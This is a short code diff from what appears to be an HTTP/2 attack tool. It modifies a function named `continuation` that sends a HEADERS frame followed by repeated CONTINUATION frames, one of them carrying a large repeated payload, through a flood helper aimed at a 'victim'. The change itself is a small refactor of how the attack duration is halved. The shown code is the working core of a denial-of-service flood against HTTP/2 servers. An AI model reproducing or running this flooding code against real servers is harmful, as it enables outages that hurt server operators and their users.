@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import dataclasses
 from collections.abc import Callable, Iterable, Iterator
 from functools import partial
 from itertools import chain, count, cycle, repeat
@@ -61,7 +62,7 @@ def continuation(victim: Victim) -> None:
     start = http2.frame(http2.HEADERS, 0, 1, _BLOCK)
     for piece in (b"", b"\x00\x01a\x01b" * 3000):
         part = http2.frame(http2.CONTINUATION, 0, 1, piece)
-        half = victim._replace(until_s=victim.until_s - victim.left_s / 2) if not piece else victim
+        half = dataclasses.replace(victim, seconds=victim.seconds / 2)
         _flood(partial(repeat, part), half, start)
 
 
